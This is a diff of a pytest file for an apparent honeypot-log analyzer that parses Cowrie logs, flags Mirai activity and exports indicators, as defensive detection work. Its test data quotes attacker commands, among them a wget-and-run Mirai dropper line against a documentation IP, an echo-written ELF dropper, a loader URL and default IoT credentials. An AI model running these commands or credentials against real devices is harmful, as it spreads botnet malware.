@@ -9,27 +9,45 @@ import tempfile
 from pathlib import Path
 from typing import Any
 
+import pyarrow as pa
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from teiten.app.engine import run_query
 from teiten.capture import cowrie
 from teiten.capture.compressed import compression_of
 from teiten.capture.cowrie import looks_like_cowrie, read_cowrie, sniff_cowrie, timestamp_ns
 from teiten.config import Settings
+from teiten.enrich.country import CountryEnricher
+from teiten.enrich.network import NetworkSet
+from teiten.enrich.sources import open_country_source
 from teiten.errors import ConfigError, InputError
-from teiten.flows.sessions import LOGINS_SCHEMA, SESSIONS_SCHEMA
-from teiten.pipeline import ingest
-from teiten.store.engine import run_query
+from teiten.pipeline import LOGINS_SCHEMA, SESSIONS_SCHEMA, SessionStage, ingest, session_tables
 
 DATA = Path(__file__).resolve().parents[1] / "data"
 LOG = DATA / "cowrie" / "cowrie.json"
 MIRAI, SSH, V6, NO_CONNECT = "4f2b1c9e8a7d", "9c0d3e2f1a4b", "e1f2a3b4c5d6", "0a1b2c3d4e5f"
 
 
+ENRICHER = CountryEnricher(open_country_source("iptocc"))
+
+
+def tables(result: cowrie.CowrieResult, input_id: int = 0) -> tuple[pa.Table, pa.Table]:
+    """The rows ingest stores for a log's sessions (classified by the pipeline's stage)."""
+    return session_tables(result.sessions, ENRICHER, input_id)
+
+
+def rows(result: cowrie.CowrieResult) -> list[dict[str, Any]]:
+    return tables(result)[0].to_pylist()
+
+
+def logins(result: cowrie.CowrieResult) -> list[dict[str, Any]]:
+    return tables(result)[1].to_pylist()
+
+
 def by_session(result: cowrie.CowrieResult) -> dict[str, dict[str, Any]]:
-    rows = result.sessions.to_pylist()
-    return {json.loads(r["details"])["cowrie"]["session"]: r for r in rows}
+    return {r["honeypot"]["session"]: r for r in rows(result)}
 
 
 def ip4(text: str) -> int:
@@ -72,18 +90,18 @@ def test_sniffs_plain_and_gzip_files(tmp_path: Path) -> None:
 
 
 def test_one_row_per_session(result: cowrie.CowrieResult) -> None:
-    assert result.sessions.schema == SESSIONS_SCHEMA
-    assert result.logins.schema == LOGINS_SCHEMA
+    sessions, logins = tables(result)
+    assert sessions.schema == SESSIONS_SCHEMA and logins.schema == LOGINS_SCHEMA
     assert set(by_session(result)) == {MIRAI, SSH, V6, NO_CONNECT}
     assert result.counts == {"no_connect": 1, "open_at_end": 1}
-    for table in (result.sessions, result.logins):  # every required column is filled
+    for table in (sessions, logins):  # every required column is filled
         for f in table.schema:
             assert f.nullable or table.column(f.name).null_count == 0, f.name
 
 
 def test_session_ids_name_the_input() -> None:
-    got = read_cowrie(LOG, input_id=7)
-    assert got.sessions.column("id").to_pylist() == ["s7-1", "s7-2", "s7-3", "s7-4"]
+    got = tables(read_cowrie(LOG), input_id=7)[0]
+    assert got.column("id").to_pylist() == ["s7-1", "s7-2", "s7-3", "s7-4"]
 
 
 def test_mirai_telnet_session(result: cowrie.CowrieResult) -> None:
@@ -102,34 +120,37 @@ def test_mirai_telnet_session(result: cowrie.CowrieResult) -> None:
     assert commands[:5] == [b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI"]
     assert row["client_total"] == len(row["client_bytes"]) and not row["truncated"]
     assert row["server_bytes"] == b""
-    details = json.loads(row["details"])
-    assert details["cowrie"]["downloads"][0]["shasum"].startswith("3b4c5d6e")
-    assert details["cowrie"]["duration"] == 13.7
-    assert details["signatures"] == row["signatures"] and details["notes"] == []
+    honeypot = row["honeypot"]
+    assert honeypot["downloads"][0]["shasum"].startswith("3b4c5d6e")
+    assert honeypot["duration_s"] == 13.7 and honeypot["name"] == "cowrie"
+    assert (honeypot["protocol"], honeypot["logins"], honeypot["sensor"]) == (
+        "telnet", 2, "hp-tokyo-1")  # fmt: skip
+    assert row["notes"] == [] and row["evidence_cut"] == 0
+    assert row["requests"] is None and row["telnet"] is None
 
 
 def test_logins_carry_success_mirai_flag_and_following_commands(
     result: cowrie.CowrieResult,
 ) -> None:
-    logins = [r for r in result.logins.to_pylist() if r["src_ip4"] == ip4("203.0.113.45")]
-    assert [(r["username"], r["password"], r["success"]) for r in logins] == [
+    mine = [r for r in logins(result) if r["src_ip4"] == ip4("203.0.113.45")]
+    assert [(r["username"], r["password"], r["success"]) for r in mine] == [
         ("root", "root", 0), ("root", "xc3511", 1)]  # fmt: skip
-    assert logins[0]["commands"] == []
-    assert logins[1]["commands"][-2:] == [
+    assert mine[0]["commands"] == []
+    assert mine[1]["commands"][-2:] == [
         "/bin/busybox ECCHI",
         "cd /tmp; wget http://198.51.100.9/bins/mips; chmod 777 mips; ./mips telnet.mips",
     ]
-    assert all(r["mirai_dict"] for r in logins)
-    assert {r["ts"] for r in logins} == {timestamp_ns("2017-11-27T03:14:15.926535Z")}
+    assert all(r["mirai_dict"] for r in mine)
+    assert {r["ts"] for r in mine} == {timestamp_ns("2017-11-27T03:14:15.926535Z")}
 
 
 def test_failed_login_only_ssh_session(result: cowrie.CowrieResult) -> None:
     row = by_session(result)[SSH]
     assert (row["app"], row["dst_port"], row["client_bytes"]) == ("ssh", 22, b"")
     assert row["signatures"] == [] and row["kind"] == "" and row["indicators"] == []
-    assert json.loads(row["details"])["cowrie"]["client_version"] == "SSH-2.0-Go"
-    logins = [r for r in result.logins.to_pylist() if r["src_ip4"] == ip4("198.51.100.23")]
-    assert [(r["username"], r["success"], r["mirai_dict"]) for r in logins] == [
+    assert row["honeypot"]["client_version"] == "SSH-2.0-Go"
+    mine = [r for r in logins(result) if r["src_ip4"] == ip4("198.51.100.23")]
+    assert [(r["username"], r["success"], r["mirai_dict"]) for r in mine] == [
         ("root", 0, False), ("admin", 0, True), ("ubnt", 0, True)]  # fmt: skip
 
 
@@ -139,16 +160,15 @@ def test_ipv6_session_open_at_end_with_failed_download(result: cowrie.CowrieResu
     assert row["src_ip6"] == ipaddress.IPv6Address("2001:db8:1::10").packed
     assert row["dst_ip6"] == ipaddress.IPv6Address("2001:db8:2::1").packed
     assert "http://loader.example.net/x.sh" in row["indicators"]
-    details = json.loads(row["details"])
-    assert details["notes"] == ["open_at_end"]
-    assert details["cowrie"]["failed_downloads"] == ["http://loader.example.net/x.sh"]
+    assert row["notes"] == ["open_at_end"]
+    assert row["honeypot"]["failed_downloads"] == ["http://loader.example.net/x.sh"]
 
 
 def test_session_without_connect_is_kept(result: cowrie.CowrieResult) -> None:
     row = by_session(result)[NO_CONNECT]
     assert row["src_ip4"] == ip4("203.0.113.77") and row["dst_ip4"] == 0
     assert row["signatures"] == ["sig.mirai-telnet-busybox-token"]
-    assert json.loads(row["details"])["notes"] == ["no_connect"]
+    assert row["notes"] == ["no_connect"]
 
 
 def test_bad_lines_are_counted_by_reason(result: cowrie.CowrieResult) -> None:
@@ -164,7 +184,7 @@ def test_gzip_log_gives_the_same_rows(tmp_path: Path, result: cowrie.CowrieResul
     gz = tmp_path / "cowrie.json.gz"
     gz.write_bytes(gzip.compress(LOG.read_bytes(), mtime=0))
     again = read_cowrie(gz)
-    assert again.sessions.equals(result.sessions) and again.logins.equals(result.logins)
+    assert again.sessions == result.sessions
     assert again.stats.skipped == result.stats.skipped
 
 
@@ -173,7 +193,7 @@ def test_small_reads_give_the_same_rows(
 ) -> None:
     monkeypatch.setattr(cowrie, "_READ", 7)
     again = read_cowrie(LOG)
-    assert again.sessions.equals(result.sessions) and again.stats == result.stats
+    assert again.sessions == result.sessions and again.stats == result.stats
 
 
 @pytest.mark.parametrize("read", [7, 1 << 20])
@@ -186,13 +206,13 @@ def test_long_lines_are_skipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
     path.write_text(f"{long_one}\n{good}\n{long_one}", encoding="utf-8")
     got = read_cowrie(path)
     assert got.stats.records == 3 and got.stats.skipped == {"line_too_long": 2}
-    assert got.sessions.num_rows == 1
+    assert len(got.sessions) == 1
 
 
 def test_commands_are_capped(tmp_path: Path) -> None:
     lines = [event("cowrie.session.connect", "s1", 0, dst_port=22, protocol="ssh")]
     lines += [event("cowrie.command.input", "s1", 1, input="y" * 3000) for _ in range(40)]
-    row = read_cowrie(write(tmp_path, lines)).sessions.to_pylist()[0]
+    row = rows(read_cowrie(write(tmp_path, lines)))[0]
     assert len(row["client_bytes"]) == cowrie.CLIENT_CAP and row["truncated"]
     assert row["client_total"] == 40 * 3000 + 39
 
@@ -202,17 +222,19 @@ def test_reused_id_and_eviction(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
     lines = [event("cowrie.session.connect", sid, i) for i, sid in enumerate("aab")]
     lines.append(event("cowrie.session.connect", "c", 5))
     got = read_cowrie(write(tmp_path, lines))
-    assert got.sessions.num_rows == 4
+    assert len(got.sessions) == 4
     assert got.counts == {"reused_id": 1, "evicted_open": 1, "open_at_end": 2}
 
 
-def test_sensor_networks_leave_out_own_sessions(tmp_path: Path) -> None:
-    got = read_cowrie(LOG, sensor_networks=["203.0.113.0/24", "2001:db8:ff::/48"])
-    assert set(by_session(got)) == {SSH, V6}
-    assert got.counts["from_sensor"] == 2
-    assert ip4("203.0.113.45") not in got.logins.column("src_ip4").to_pylist()
+def test_sensor_networks_leave_out_own_sessions(result: cowrie.CowrieResult) -> None:
+    """The pipeline's session stage leaves out the sensor's own sessions, from any source."""
+    stage = SessionStage(ENRICHER, nets=NetworkSet(["203.0.113.0/24", "2001:db8:ff::/48"]))
+    sessions, logins = stage.tables(result.sessions)
+    assert {r["honeypot"]["session"] for r in sessions.to_pylist()} == {SSH, V6}
+    assert stage.left_out == {"from_sensor": 2} and stage.count == 2
+    assert ip4("203.0.113.45") not in logins.column("src_ip4").to_pylist()
     with pytest.raises(ConfigError):
-        read_cowrie(LOG, sensor_networks=["not-a-network"])
+        NetworkSet(["not-a-network"])
 
 
 def test_odd_field_values_are_tolerated(tmp_path: Path) -> None:
@@ -222,12 +244,12 @@ def test_odd_field_values_are_tolerated(tmp_path: Path) -> None:
              event("cowrie.command.input", "s1", 2, input="\ud800 /bin/busybox MIORI"),
              event("cowrie.session.closed", "s1", 3, duration="NaN")]  # fmt: skip
     got = read_cowrie(write(tmp_path, lines))
-    row = got.sessions.to_pylist()[0]
+    row = rows(got)[0]
     assert (row["src_port"], row["dst_port"], row["app"]) == (0, 2323, "telnet")
     assert row["dst_ip4"] == ip4("192.0.2.10")
     assert row["client_bytes"] == b"\\ud800 /bin/busybox MIORI"
-    assert json.loads(row["details"])["cowrie"]["duration"] is None
-    assert got.logins.to_pylist()[0]["username"] == "0"
+    assert row["honeypot"]["duration_s"] is None
+    assert logins(got)[0]["username"] == "0"
 
 
 def test_missing_file_raises_input_error(tmp_path: Path) -> None:
@@ -280,7 +302,7 @@ def test_arbitrary_lines_never_raise(lines: list[bytes]) -> None:
     stream = ("truncated_compressed", "corrupt_compressed")  # the file's, not a line's
     lines = sum(n for reason, n in got.stats.skipped.items() if reason not in stream)
     assert lines <= got.stats.records
-    assert got.sessions.schema == SESSIONS_SCHEMA
+    assert tables(got)[0].schema == SESSIONS_SCHEMA  # classified and stored like any session
 
 
 SHA = "a" * 64
@@ -295,9 +317,9 @@ def test_download_without_url_keeps_the_sha256(tmp_path: Path) -> None:
         event("cowrie.session.closed", "s1", 3),
     ]
     got = read_cowrie(write(tmp_path, lines))
-    (row,) = got.sessions.to_pylist()
+    (row,) = rows(got)
     assert row["indicators"] == [SHA] and row["indicator_types"] == ["sha256"]
-    downloads = json.loads(row["details"])["cowrie"]["downloads"]
+    downloads = row["honeypot"]["downloads"]
     assert downloads == [{"url": "", "shasum": SHA.upper(), "outfile": "dl/" + SHA}]
     assert got.stats.skipped == {"missing_field": 1}
 
@@ -307,7 +329,7 @@ def test_download_with_a_bad_hash_gives_no_sha256_indicator(tmp_path: Path) -> N
         event("cowrie.session.file_download", "s1", 1, url="http://198.51.100.2/a", shasum="xyz"),
         event("cowrie.session.closed", "s1", 3),
     ]
-    (row,) = read_cowrie(write(tmp_path, lines)).sessions.to_pylist()
+    (row,) = rows(read_cowrie(write(tmp_path, lines)))
     assert "sha256" not in row["indicator_types"] and "http://198.51.100.2/a" in row["indicators"]
 
 
@@ -345,7 +367,7 @@ def test_loader_and_shellshock_commands(
         event("cowrie.command.input", "s1", 1, input=command),
         event("cowrie.session.closed", "s1", 2),
     ]
-    (row,) = read_cowrie(write(tmp_path, lines)).sessions.to_pylist()
+    (row,) = rows(read_cowrie(write(tmp_path, lines)))
     assert row["signatures"] == ([signature] if signature else [])
 
 
@@ -358,7 +380,8 @@ REAL_LOG = (
 def test_real_cowrie_log() -> None:
     got = read_cowrie(REAL_LOG)
     assert got.sensor == "ubuntu" and got.stats.records == 2000
-    assert got.sessions.num_rows > 300 and got.logins.num_rows >= 280
+    sessions, logins = tables(got)
+    assert sessions.num_rows > 300 and logins.num_rows >= 280
     assert sum(got.stats.skipped.values()) < got.stats.records
     assert set(got.stats.skipped) <= {"unused_event"}
 
@@ -375,7 +398,7 @@ def test_echo_loader_dropper_hash_reaches_the_stix_export(
     tmp_path: Path, settings: Settings
 ) -> None:
     """An echo-written dropper (Cowrie logs no url for it): its SHA-256 is exported."""
-    from teiten.export.stix_indicators import stix_export
+    from teiten.app.payloads import stix_export
 
     loader = "/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .s"
     lines = [
